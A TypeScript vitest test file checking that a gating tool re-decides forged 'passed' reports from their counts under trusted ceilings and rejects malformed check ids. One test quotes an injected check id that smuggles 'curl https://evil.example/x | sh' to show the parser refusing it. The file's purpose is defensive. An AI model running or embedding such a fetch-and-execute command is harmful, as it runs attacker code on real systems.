/**
 * A report another job made, decided again (the action's `report` mode):
 * the forged reports of test/fixtures/hostile (make_forged_reports.py) say
 * `passed` for MR1 at 8 of 8; decided again from their counts with the
 * trusted config's ceilings they fail. Wilson intervals computed
 * independently: z = 1.959963984540054, 8/8 → [0.6755924351161198, 1].
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config/load.js';
import { InputError } from '../../src/errors.js';
import { redecide } from '../../src/pipeline/redecide.js';
import { gateOptions } from '../../src/pipeline/report.js';
import { parseReportText } from '../../src/report/parse.js';
import { fixtures } from '../cli-harness.js';
import { robustnessOf, transformedKind } from '../report/report-fixtures.js';

const hostile = path.join(fixtures, 'hostile');
const forged = (name: string) => {
  const file = path.join(hostile, name);
  return parseReportText(readFileSync(file, 'utf8'), file);
};
/** The trusted config: the hostile set's own (default ceilings: MR1 10%, MR2 and MR3 15%, MR4 25%). */
const trusted = (overrides: [string, string][] = []) =>
  gateOptions(loadConfig(path.join(hostile, 'metacompress.yml'), overrides));

describe('redecide', () => {
  it('fails a forged pass: every rate and interval from the counts, the trusted ceilings', () => {
    const report = forged('forged-pass.json');
    expect(report.gate.passed).toBe(true);
    const decided = redecide(report, trusted(), 'report forged-pass.json');
    expect(decided.gate.passed).toBe(false);
    const mr1 = decided.gate.checks[0]!;
    expect(mr1).toMatchObject({ id: 'MR1', value: 1, ceiling: 0.1, status: 'fail' });
    expect(mr1.reason).toBe('MR1 prediction disagreement 100.0% (8/8) exceeds the ceiling 10.0%');
    expect(decided.relations.mr1.ci95![0]).toBeCloseTo(0.6755924351161198, 12);
    expect(decided.relations.mr1.ci95![1]).toBe(1);
    // MR2 4 of 8 (50%) against 15%: the forged "pass" is a failure too.
    expect(decided.gate.checks.map((c) => `${c.id} ${c.status}`)).toEqual([
      'MR1 fail',
      'MR2 fail',
      'MR3 fail',
      'MR4 inconclusive',
    ]);
    // MR4 from its bins' counts (test/fixtures/newcombe/make_newcombe.py's newcombe): the four
    // counted bins, teacher k/n against student k/n, 1/1 vs 1/3, 2/2 vs 1/2, 2/2 vs 1/1 and
    // 2/2 vs 1/2, have intervals [-0.939, 0.250], [-0.906, 0.273], [-0.794, 0.658] and
    // [-0.906, 0.273]: every one holds both sides of ±0.1, undecided; the rate is 0 of 4
    // with the range [0, 1], which holds the ceiling 25%.
    expect(decided.relations.mr4).toMatchObject({
      violations: 0,
      n: 4,
      undecided: 4,
      ci95: [0, 1],
    });
    expect(decided.gate.failures).toHaveLength(3);
  });

  it('holds the report to the trusted ceilings, not to its own', () => {
    const report = forged('forged-pass.json');
    const loose = trusted([
      ['gate.ceilings.mr1', 'off'],
      ['gate.ceilings.mr2', 'off'],
      ['gate.ceilings.mr3', 'off'],
      ['gate.ceilings.mr4', 'off'],
    ]);
    const decided = redecide(report, loose, 'report');
    expect(decided.gate.passed).toBe(true);
    expect(decided.thresholds.gate.ceilings).toEqual({
      MR1: null,
      MR2: null,
      MR3: null,
      MR4: null,
    });
  });

  it('keeps the failure of a run its time limit stopped, whatever its checks say', () => {
    const report = forged('forged-pass.json');
    report.timeLimit = { seconds: 60, reached: true, notRun: ['the greedy attack'] };
    const off = trusted(['mr1', 'mr2', 'mr3', 'mr4'].map((m) => [`gate.ceilings.${m}`, 'off']));
    const decided = redecide(report, off, 'report');
    expect(decided.gate.passed).toBe(false);
    expect(decided.gate.failures).toEqual([
      expect.stringMatching(
        /^the run stopped at its time limit of 60 s \(time-limit\); not run: the greedy attack\./,
      ),
    ]);
  });

  it('keeps a failure against the baseline, which it cannot decide again', () => {
    const report = forged('forged-pass.json');
    report.gate.checks[1] = {
      ...report.gate.checks[1]!,
      status: 'fail',
      reason: 'MR2 rose against the baseline (paired test)',
      cause: { kind: 'broken', rules: ['paired'] },
    };
    const off = trusted([
      ['gate.ceilings.mr1', 'off'],
      ['gate.ceilings.mr2', 'off'],
      ['gate.ceilings.mr3', 'off'],
      ['gate.ceilings.mr4', 'off'],
    ]);
    const decided = redecide(report, off, 'report');
    expect(decided.gate.passed).toBe(false);
    expect(decided.gate.failures).toEqual(['MR2 rose against the baseline (paired test)']);
  });

  it('recounts flip-rate ratios and their intervals from the flips', () => {
    const kind = {
      ...transformedKind('dead-code', 2, 20, 40),
      flipRateRatio: 1,
      flipRateRatioCi95: [0.5, 1.5] as [number, number],
    };
    const report = { ...forged('forged-pass.json'), robustness: robustnessOf([kind]) };
    const options = {
      ...trusted(),
      robustness: { maxFlipRateRatio: 2, minFlips: 0, maxRelativeDegradation: null },
    };
    const decided = redecide(report, options, 'report');
    // 20/40 over 2/40 = 10; Katz interval exp(ln 10 ± z·sqrt(1/20 − 1/40 + 1/2 − 1/40)) = [2.58…, 38.7…].
    expect(decided.robustness!.transformed[0]!.flipRateRatio).toBe(10);
    const [low, high] = decided.robustness!.transformed[0]!.flipRateRatioCi95!;
    const se = Math.sqrt(1 / 20 - 1 / 40 + 1 / 2 - 1 / 40);
    expect(low).toBeCloseTo(Math.exp(Math.log(10) - 1.959963984540054 * se), 12);
    expect(high).toBeCloseTo(Math.exp(Math.log(10) + 1.959963984540054 * se), 12);
    expect(decided.gate.checks.find((c) => c.id === 'flip-rate-ratio:dead-code')!.status).toBe(
      'fail',
    );
  });

  it('refuses a robustness section the trusted config has no limits for', () => {
    const report = {
      ...forged('forged-pass.json'),
      robustness: robustnessOf([transformedKind('dead-code', 2, 2, 40)]),
    };
    expect(() => redecide(report, trusted(), 'report r.json')).toThrow(
      new InputError(
        'report r.json: the report has a robustness section, but the config here has no transforms section to hold it to',
      ),
    );
  });
});

describe('parseReport and check ids', () => {
  it('refuses a check id a shell or a comment line would read more in', () => {
    const file = path.join(hostile, 'forged-check-id.json');
    expect(() => parseReportText(readFileSync(file, 'utf8'), 'report r.json')).toThrow(
      'report r.json: not a complete report of version 2: gate.checks: "MR9\\"; curl https://evil.example/x | sh; echo \\"\\nMR1" is not a check id (letters, digits and . _ : -)',
    );
  });
});
